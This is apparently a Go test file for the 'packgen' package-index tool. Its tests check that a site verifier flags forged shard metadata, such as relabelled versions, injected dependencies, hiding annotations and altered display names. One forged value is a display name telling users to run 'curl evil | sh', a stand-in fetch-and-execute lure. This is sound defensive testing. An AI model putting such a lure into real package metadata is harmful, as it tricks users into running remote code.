package rebuild_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/packgen/packgen/build"
	"github.com/packgen/packgen/index"
	"github.com/packgen/packgen/internal/realrepo"
	"github.com/packgen/packgen/pack"
	"github.com/packgen/packgen/rebuild"
)

// forgeShard rewrites one pack's shard in a site of one bucket level and
// every digest above it, as whoever runs the site (or its bucket) can.
func forgeShard(t *testing.T, site, name string, edit func(*index.Shard)) {
	t.Helper()
	read := func(p string) []byte {
		data, err := os.ReadFile(filepath.Join(site, filepath.FromSlash(p)))
		must(t, err)
		return data
	}
	write := func(p string, data []byte) index.FileRef {
		must(t, os.MkdirAll(filepath.Dir(filepath.Join(site, filepath.FromSlash(p))), 0o755))
		must(t, os.WriteFile(filepath.Join(site, filepath.FromSlash(p)), data, 0o644))
		return index.FileRef{Path: p, SHA256: index.Digest(data), Size: int64(len(data))}
	}
	root, err := index.ParseRoot(read(index.RootFile))
	must(t, err)
	for i, bref := range root.Buckets {
		b, err := index.ParseNode(read(bref.Path), root.BucketBits, 1, 1, i)
		must(t, err)
		for j, s := range b.Packs {
			if s.Name != name {
				continue
			}
			shard, err := index.ParseShard(read(s.Shard.Path), name)
			must(t, err)
			edit(shard)
			data, err := index.Encode(shard)
			must(t, err)
			b.Packs[j].Shard = write(index.ShardPath(name, index.Digest(data)), data)
			write(index.LatestShardPath(name), data)
			data, err = index.Encode(b)
			must(t, err)
			root.Buckets[i] = write(index.BucketPath(index.Digest(data)), data)
			data, err = index.Encode(root)
			must(t, err)
			write(index.RootFile, data)
			return
		}
	}
	t.Fatalf("no pack %s in %s", name, site)
}

// TestAttackCheckSiteShardFields: the rebuild check proves archives are
// git's; a site whose shard says something else about a release than
// the release's pack.json (a version it does not have, a dependency, an
// annotation hiding it, another displayName) is not the repository's
// content either, and must not report 0 problems.
func TestAttackCheckSiteShardFields(t *testing.T) {
	for _, tc := range []struct {
		name, want string
		edit       func(t *testing.T, site string, r *index.Release)
	}{
		{"version relabelled", "version", func(t *testing.T, site string, r *index.Release) {
			p := "packs/calico/9.9.9/calico-9.9.9.tar.gz"
			data, err := os.ReadFile(filepath.Join(site, filepath.FromSlash(r.Archive.Path)))
			must(t, err)
			must(t, os.MkdirAll(filepath.Join(site, "packs/calico/9.9.9"), 0o755))
			must(t, os.WriteFile(filepath.Join(site, filepath.FromSlash(p)), data, 0o644))
			r.Version, r.Archive.Path = "9.9.9", p
		}},
		{"dependency added", "dependencies", func(t *testing.T, site string, r *index.Release) {
			r.Dependencies = []pack.Dependency{{PackName: "evil", Type: "required"}}
		}},
		{"deleted", "annotations", func(t *testing.T, site string, r *index.Release) {
			r.Annotations = map[string]string{"system_state": "deleted"}
		}},
		{"displayName", "displayName", func(t *testing.T, site string, r *index.Release) {
			r.DisplayName = "Calico (run curl evil | sh first)"
		}},
		{"layer", "layer", func(t *testing.T, site string, r *index.Release) { r.Layer = "addon" }},
		{"charts listed", "charts", func(t *testing.T, site string, r *index.Release) { r.Charts = []string{"charts/evil.tgz"} }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			repo, site, _ := fixture(t)
			forgeShard(t, site, "calico", func(s *index.Shard) { tc.edit(t, site, &s.Releases[0]) })
			rep, err := rebuild.CheckSite(context.Background(), site, repo)
			must(t, err)
			if len(rep.Problems) == 0 {
				t.Fatalf("a site whose shard changed %s reports 0 problems", tc.name)
			}
			found := false
			for _, p := range rep.Problems {
				found = found || strings.Contains(p.Msg, tc.want)
			}
			if !found {
				t.Errorf("no problem names %s: %+v", tc.want, rep.Problems)
			}
		})
	}
}

// TestCheckSiteFieldsRealistic: the rebuild check reports nothing on a
// genuine history build of a realistic repository (2-part and v-prefixed
// versions, templated manifests, dependencies, annotations,
// constraints.resources), incremental after a new commit too: no false
// problem from the field comparison, nor from checking releases in
// parallel.
func TestCheckSiteFieldsRealistic(t *testing.T) {
	if testing.Short() {
		t.Skip("generates a repository")
	}
	tmp := t.TempDir()
	r, err := realrepo.Generate(filepath.Join(tmp, "repo"), realrepo.Small)
	must(t, err)
	site := filepath.Join(tmp, "site")
	for i := 0; i < 2; i++ {
		if i == 1 {
			must(t, os.WriteFile(filepath.Join(r.Dir, "README.md"), []byte("changed\n"), 0o644))
			cmd := exec.Command("git", "-C", r.Dir, "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qam", "readme")
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%v: %s", err, out)
			}
		}
		_, err = build.Run(context.Background(), build.Options{Repo: r.Dir, PacksDir: r.PacksDir, History: true, Out: site, SkipInvalid: true, Registry: "t"})
		must(t, err)
		rep, err := rebuild.CheckSite(context.Background(), site, r.Dir)
		must(t, err)
		// Every release, checked in parallel (ReleaseAt once shared one
		// go-git storage between goroutines: false "release not in the
		// repository" problems, a different set each run).
		for _, p := range rep.Problems {
			t.Errorf("build %d: %s@%s: %s: %s", i, p.Pack, p.Version, p.Path, p.Msg)
		}
		if rep.Releases < 50 {
			t.Errorf("build %d: %d releases checked", i, rep.Releases)
		}
	}
}
